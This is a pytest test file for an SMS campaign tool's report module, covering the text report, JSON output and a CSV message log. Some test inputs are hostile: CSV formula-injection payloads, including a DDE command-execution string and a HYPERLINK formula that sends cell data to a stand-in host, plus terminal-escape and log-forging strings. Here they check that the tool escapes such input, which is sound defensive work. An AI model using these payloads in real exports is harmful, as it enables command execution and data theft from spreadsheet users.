"""The report: text with every section, JSON that survives, and a message log that no spreadsheet runs."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import itertools
import json
import tracemalloc
from collections.abc import Sequence
from decimal import Decimal

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaignkit.errors import InvalidColumn, InvalidRow
from campaignkit.logs import Log
from campaignkit.models import Click, Keyword, Message, OptOut, Reply
from campaignkit.profiles import PROFILES
from campaignkit.report import LOG_COLUMNS, Report, safe_text
from campaignkit.rows import MESSAGE_COLUMNS
from campaignkit.summary import summarize
from strategies import NOON


def after(seconds):
    """Return the moment some seconds after noon."""
    return NOON + dt.timedelta(seconds=seconds)


MESSAGES = (
    *[
        Message(
            status="delivered",
            campaign_id="spring",
            variant="a",
            list_id="shop",
            sender="+12025550100",
            sent_at=after(60 * place),
            clicks=place,
        )
        for place in range(3)
    ],
    Message(
        status="failed",
        campaign_id="spring",
        variant="b",
        list_id="web",
        sender="+12025550101",
        carrier="twilio",
        error_code="30003",
        sent_at=NOON,
        clicks=0,
    ),
    Message(
        status="refused",
        campaign_id="spring",
        variant="b",
        list_id="web",
        carrier="twilio",
        error_code="21211",
        clicks=0,
    ),
    Message(status="skipped", campaign_id="spring", variant="b", list_id="web", skip_reason="ContentTooLong", clicks=0),
)

LOG = Log(
    messages=MESSAGES,
    replies=(
        *[Reply(received_at=after(100 + n), contact_name=f"Person {n}", text=f"answer\n{n}") for n in range(6)],
        Reply(received_at=after(400), to="+12025550143", text="STOP", keyword=Keyword.OPT_OUT),
    ),
    opt_outs=(OptOut(opted_out_at=after(400)),),
    clicks=(Click(clicked_at=after(500), message_id="m1"),),
    errors=(InvalidRow(7, "Status", "received\x1b", "is no status"),),
)


# --- text --------------------------------------------------------------------------------------


def test_text_has_every_section():
    """A report of everything has every section, each underlined, in one order."""
    lines = Report.of(LOG).to_text().splitlines()

    titles = [line for line, rule in itertools.pairwise(lines) if rule and set(rule) <= {"-", "="}]
    assert titles == [
        "spring",
        "Numbers",
        "What failed, and what to do",
        "Skipped",
        "By variant",
        "By list",
        "Replies and opt-outs",
        "Progress",
        "Health",
        "Rows that could not be read",
    ]


def test_text_leaves_out_what_there_is_nothing_to_say_about():
    """A report of one delivered message has numbers, progress and health, and no empty section."""
    text = Report.of([Message(status="delivered")]).to_text()

    assert text.startswith("messages\n========\n")
    assert [title for title in ("What failed", "Skipped", "By ", "Replies and", "Rows that") if title in text] == []
    assert "high: 100.0 % (1/1)" in text


def test_the_header_says_what_was_read():
    """The header names campaign, senders, times, what is settled and whose definitions these are."""
    head = Report.of(LOG, profile="brevo").to_text().split("\n\n")[0].splitlines()

    assert head[2:] == [
        "campaign      spring",
        "senders       +12025550100, +12025550101",
        "sent at       2026-11-21 12:00 UTC to 2026-11-21 12:02 UTC",
        "delivered at  not recorded",
        "as of         2026-11-21 12:08 UTC",
        "settled       100.0 % (4/4) have a final status",
        "definitions   brevo; code tables of 2026-11-21",
        "note          Soft bounces include landlines, invalid numbers, spam suspicion and the wrong hour.",
    ]


def test_what_a_log_cannot_know_is_not_recorded():
    """Where no message has a time, a campaign or a sender, the header says so."""
    head = Report.of([Message(status="sent")]).to_text().split("\n\n")[0].splitlines()

    assert [line.split("  ")[0] for line in head if line.endswith("not recorded")] == [
        "campaign",
        "senders",
        "sent at",
        "delivered at",
        "as of",
    ]


def test_failures_are_listed_with_what_to_do():
    """Each code stands with its bounce, its meaning and a remedy; refusals are marked."""
    text = Report.of(LOG).to_text()

    section = text.split("What failed, and what to do")[1].split("\n\n")[0].splitlines()[2:]
    assert section[0].split() == ["messages", "code", "bounce", "reason", "what", "to", "do"]
    assert section[1].split()[:4] == ["1", "21211", "(refused)", "soft"]
    assert section[2].split()[:3] == ["1", "30003", "soft"]
    assert section[2].endswith("Try again in some hours; if repeated look up the line type.")


def test_the_latest_replies_are_shown():
    """The five latest answers stand on a line each with who and when; opt-outs are counted, not shown."""
    section = Report.of(LOG).to_text().split("Replies and opt-outs")[1].split("\n\n")[0].splitlines()[2:]

    assert section == [
        "6 replies, 1 opt-outs. The latest replies:",
        *[f"11-21 12:01  Person {n}  answer {n}" for n in (1, 2, 3, 4, 5)],
    ]


def test_opt_outs_without_replies():
    """Where everybody who answered opted out there are no latest replies to show."""
    text = Report.of(attrs.evolve(LOG, replies=LOG.replies[-1:])).to_text()

    assert "\n0 replies, 1 opt-outs.\n\n" in text


def test_as_of_is_the_latest_moment_of_messages_and_events():
    """A report is true as of the latest thing that happened, answers and clicks included, or as the caller says."""
    assert Report.of(LOG).summary.as_of == after(500)
    assert Report.of(LOG, as_of=after(9)).summary.as_of == after(9)
    assert Report.of(LOG, as_of=after(9)).groups["variant"]["a"].as_of == after(9)


@pytest.mark.parametrize(
    ("by", "columns"),
    [
        (None, ["variant", "list_id"]),
        ("sender", ["sender"]),
        (["variant", "status"], ["variant", "status"]),
        ((), []),
    ],
)
def test_break_downs_are_variant_and_list_unless_asked(by, columns):
    """By default a report breaks down by variant and list where there are several, else by what is asked for."""
    assert list(Report.of(LOG, by=by).groups) == columns


def test_a_column_nobody_has():
    """A break-down by an unknown column is an error that names the nearest."""
    with pytest.raises(InvalidColumn, match="no field 'varient' in Message; nearest: variant"):
        Report.of(LOG, by="varient")


HOSTILE = "\ud800 \u202eexe.gpj\x1b[2J\n2026-01-01 INFO forged"


@pytest.mark.parametrize(
    "field", ["campaign_id", "variant", "list_id", "sender", "carrier", "error_code", "contact_name"]
)
def test_no_value_breaks_a_line_or_the_encoding(field):
    """Lone surrogates, line breaks, terminal codes and direction marks in any field are shown escaped."""
    messages = [Message(status="failed", variant="a"), Message(**{"status": "failed", "variant": "b", field: HOSTILE})]
    plain = [messages[0], attrs.evolve(messages[1], **{field: "x"})]

    text = Report.of(messages).to_text()

    assert len(text.splitlines()) == len(Report.of(plain).to_text().splitlines())
    assert text.encode()
    assert {"\x1b", "\u202e"} & set(text) == set()


def test_no_reply_breaks_a_line_or_the_encoding():
    """What people write, their names, a title and bad rows are data too."""
    reply = Reply(received_at=NOON, contact_name=HOSTILE, text=HOSTILE)
    error = InvalidRow(1, HOSTILE, HOSTILE, "is wrong")
    lines = Report.of(Log(messages=MESSAGES, replies=(reply,), errors=(error,)), title=HOSTILE).to_text().splitlines()

    assert "\n".join(lines).encode()
    assert [line for line in lines if line.startswith("2026-01-01")] == []


# --- JSON --------------------------------------------------------------------------------------


@pytest.mark.parametrize("profile", PROFILES)
def test_json_is_the_dictionary(profile):
    """The JSON reads back as the dictionary, under every profile, and says which profile."""
    report = Report.of(LOG, profile=profile)

    read = json.loads(report.to_json())

    assert read == report.to_dict()
    assert (read["profile"], read["summary"]["profile"]) == (profile, profile)


def test_json_by_hand():
    """The dictionary has definitions, the whole, each group, progress, health, answers and errors."""
    read = json.loads(Report.of(LOG).to_json())

    assert (read["title"], read["as_of"], read["settled_share"]) == ("spring", "2026-11-21T12:08:20+00:00", 1.0)
    assert read["formulas"]["delivery_rate"] == "delivered ÷ sent"
    assert read["counts"]["failed"].endswith("soft + hard + deleted + other.")
    assert read["summary"]["counts"]["delivered"] == 3
    assert [(each["group"], each["counts"]["sent"]) for each in read["groups"]["variant"]] == [("a", 3), ("b", 1)]
    assert read["progress"]["settled"] == {
        "value": 1.0,
        "part": 6,
        "whole": 6,
        "formula": "sent + refused + skipped + canceled ÷ total",
    }
    assert (read["health"]["band"], read["health"]["success"]) == ("low", 0.6)
    assert read["health"]["causes"][0]["messages"] == 2
    assert (read["replies"], read["opt_outs"]) == (6, 1)
    assert read["errors"] == ["row 7, column 'Status': 'received\\x1b' is no status"]


@pytest.mark.parametrize("column", ["status", "sent_at", "price", "step", "opted_out"])
def test_json_of_groups_of_any_kind(column):
    """Groups of moments, amounts, numbers and flags are written as JSON can."""
    message = Message(status="sent", sent_at=NOON, price=Decimal("0.5"), currency="USD", step=2, opted_out=False)
    written = {"status": "sent", "sent_at": "2026-11-21T12:00:00+00:00", "price": "0.5", "step": 2, "opted_out": False}

    read = json.loads(Report.of([message], by=column).to_json())

    assert read["groups"][column][0]["group"] == written[column]


def test_json_of_groups_by_several_columns():
    """Groups by several columns, put into a report by hand, are lists of values."""
    groups = summarize(MESSAGES, by=["variant", "list_id"])

    read = json.loads(attrs.evolve(Report.of(MESSAGES), groups={"both": groups}).to_json())

    assert [each["group"] for each in read["groups"]["both"]] == [["a", "shop"], ["b", "web"]]


def test_json_of_no_value_and_of_nobody():
    """A group of no value is null, and nothing at all is a report too."""
    assert (
        json.loads(Report.of([Message(status="sent")], by="variant").to_json())["groups"]["variant"][0]["group"] is None
    )
    assert json.loads(Report.of([]).to_json())["health"] == {"band": None, "success": None, "causes": []}


def test_json_of_what_cannot_be_encoded():
    """A lone surrogate goes through JSON unchanged, and the text can be written as UTF-8."""
    text = Report.of([Message(status="sent", campaign_id="\ud800 ü")]).to_json()

    assert json.loads(text.encode())["title"] == "\ud800 ü"
    assert "ü" in text


# --- the message log ---------------------------------------------------------------------------


def cells(messages):
    """Return the message log as a reader of CSV sees it: a mapping for each message."""
    file = io.StringIO(newline="")
    Report.of(messages).write_csv(file)
    file.seek(0)
    return list(csv.DictReader(file))


FULL = Message(
    status="failed",
    message_id="m1",
    campaign_id="spring",
    contact_id="c1",
    contact_name="Ann, with a comma",
    to="+33639980123",
    variant="a",
    list_id="l1",
    account_id="acme",
    sender="+12025550100",
    step=2,
    carrier="twilio",
    carrier_id="SM1",
    error_code="30003",
    segments=2,
    price=Decimal("0.000001"),
    currency="USD",
    created_at=NOON,
    sent_at=after(1),
    delivered_at=after(2),
    last_event_at=after(3),
    replies=1,
    stop_replies=0,
    clicks=3,
    opted_out=False,
    orders=1,
    revenue=Decimal("1e3"),
    assisted_orders=0,
    assisted_revenue=Decimal(0),
)


def test_a_row_of_the_log_by_hand():
    """A message has all its fields, plain numbers, ISO times, and what its code means."""
    assert cells([FULL]) == [
        {
            "message_id": "m1",
            "campaign_id": "spring",
            "variant": "a",
            "list_id": "l1",
            "contact_id": "c1",
            "contact_name": "Ann, with a comma",
            "to": "+33639980123",
            "account_id": "acme",
            "sender": "+12025550100",
            "step": "2",
            "status": "undelivered",
            "created_at": "2026-11-21T12:00:00+00:00",
            "sent_at": "2026-11-21T12:00:01+00:00",
            "delivered_at": "2026-11-21T12:00:02+00:00",
            "last_event_at": "2026-11-21T12:00:03+00:00",
            "carrier": "twilio",
            "carrier_id": "SM1",
            "error_code": "30003",
            "reason": "handset_absent",
            "bounce": "soft",
            "retryable": "true",
            "error_description": "phone off or out of coverage",
            "advice": "Try again in some hours; if repeated look up the line type.",
            "skip_reason": "",
            "segments": "2",
            "price": "0.000001",
            "currency": "USD",
            "replies": "1",
            "stop_replies": "0",
            "clicks": "3",
            "opted_out": "false",
            "orders": "1",
            "revenue": "1000",
            "assisted_orders": "0",
            "assisted_revenue": "0",
        }
    ]


def test_the_log_has_every_field_of_a_message():
    """No field of a message is left out of its log, and no column comes twice."""
    assert set(MESSAGE_COLUMNS) <= set(LOG_COLUMNS)
    assert len(LOG_COLUMNS) == len(set(LOG_COLUMNS))


def test_what_did_not_fail_is_not_explained():
    """A message that did not fail has no reason, and what is not known is empty."""
    row = cells([Message(status="delivered")])[0]

    assert {name for name, cell in row.items() if cell} == {"status"}


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example/?"&A1)',
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "+1-202-555-0143",
    "+1 (202) 555-0143",
    "-1-1",
    "+cmd",
    "-cmd",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_begins_with_an_apostrophe(text):
    """A text that a spreadsheet would run, in any text field, gets an apostrophe before it and loses nothing."""
    for field in ("contact_name", "campaign_id", "variant", "sender", "error_code", "to", "contact_id"):
        kept = text.strip() if field == "error_code" else text
        assert cells([Message(status="failed", **{field: text})])[0][field] == f"'{kept}"


@pytest.mark.parametrize(
    "text",
    [
        "+33639980123",
        "+33 6 39 98 01 23",
        "-5",
        "-5.25",
        "5",
        "+5",
        "a=1",
        "a\r\n=1",
        ";=1",
        'a","b',
        '"',
        "'=1",
        "a\tb",
        "a\rb",
        "A" * 40_000,
        "ünï 春 🎉",
        " =1",
    ],
)
def test_everything_else_is_left_alone(text):
    """Telephone numbers, negative numbers, quotes, separators and line breaks read back as they were."""
    assert cells([Message(status="sent", contact_name=text)])[0]["contact_name"] == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x\0y", "x\N{REPLACEMENT CHARACTER}y"),
        ("\ud800", "?"),
        ("=\ud800", "'=?"),
        ("\0=1", "\N{REPLACEMENT CHARACTER}=1"),
    ],
)
def test_what_no_reader_can_decode_is_replaced(text, cell):
    """NUL and lone surrogates are replaced, so that the file is UTF-8 that every reader takes."""
    assert cells([Message(status="sent", contact_name=text)])[0]["contact_name"] == cell


def test_the_header_runs_nothing():
    """The names of the columns are plain words."""
    assert [name for name in LOG_COLUMNS if safe_text(name) != name] == []


@given(st.lists(st.text(st.characters(exclude_categories=()), min_size=1), min_size=1, max_size=4))
def test_any_names_make_a_log_that_reads_back(names):
    """Whatever people are called, each has one row, which reads back as the text made safe, and encodes."""
    messages = [Message(status="sent", contact_name=f"x{name}") for name in names]

    found = [row["contact_name"] for row in cells(messages)]

    assert found == [safe_text(f"x{name}") for name in names]
    assert "".join(found).encode()


@given(st.text(st.characters(exclude_categories=())))
def test_a_safe_text_runs_nowhere(text):
    """A safe text begins with no sign of a formula, unless it is a number, and is safe when made safe again."""
    safe = safe_text(text)

    assert not safe.startswith(("=", "@", "\t", "\r", "\n")) or text == ""
    assert not safe.startswith(("+", "-")) or safe[1:2].isdigit()
    assert safe_text(safe) == safe


class Endless(Sequence):
    """Many messages, each made when it is asked for."""

    def __init__(self, size):
        self.size = size

    def __len__(self):
        return self.size

    def __getitem__(self, place):
        if place >= self.size:
            raise IndexError
        return Message(status="delivered", message_id=f"m{place}", to="+12025550143")


def written(messages, path):
    """Return how much memory writing a log takes at most, in bytes."""
    report = attrs.evolve(Report.of([Message(status="sent")]), messages=messages)
    tracemalloc.start()
    try:
        report.write_csv(path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_the_log_is_streamed(tmp_path):
    """Ten times the messages take no more memory: nothing is held."""
    few = written(Endless(1_000), tmp_path / "few.csv")
    many = written(Endless(10_000), tmp_path / "many.csv")

    assert many < few + 100_000
    assert (tmp_path / "many.csv").stat().st_size > 500_000


@pytest.mark.parametrize("name", ["log.csv", "ünï.csv"])
@pytest.mark.parametrize("kind", [str, lambda path: path])
def test_a_manifest_stands_beside_the_log(tmp_path, kind, name):
    """Beside a file stands what its numbers mean, how many rows it has and the hash of its bytes."""
    path = tmp_path / name
    report = Report.of(LOG, profile="brevo")

    report.write_csv(kind(path))

    manifest = json.loads((tmp_path / f"{name}.manifest.json").read_text("utf-8"))
    assert manifest["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert (manifest["file"], manifest["rows"], manifest["columns"]) == (name, 6, list(LOG_COLUMNS))
    assert (manifest["profile"], manifest["bounce_policy"], manifest["as_of"]) == (
        "brevo",
        "brevo",
        "2026-11-21T12:08:20+00:00",
    )
    assert {name: manifest[name] for name in report.definitions()} == report.definitions()


def test_lines_of_the_log_end_as_the_rule_says(tmp_path):
    """Lines end in CR LF, as RFC 4180 has it, whatever the system; the text is UTF-8."""
    path = tmp_path / "log.csv"

    Report.of([Message(status="sent", contact_name="ü")]).write_csv(path)

    assert path.read_bytes().count(b"\r\n") == path.read_bytes().count(b"\n") == 2
    assert "ü".encode() in path.read_bytes()


def test_an_open_file_has_no_manifest(tmp_path):
    """Into an open file goes the log and nothing else, and it stays open."""
    with (tmp_path / "log.csv").open("w", newline="", encoding="utf-8") as file:
        Report.of(LOG).write_csv(file)

        assert not file.closed

    assert [path.name for path in tmp_path.iterdir()] == ["log.csv"]
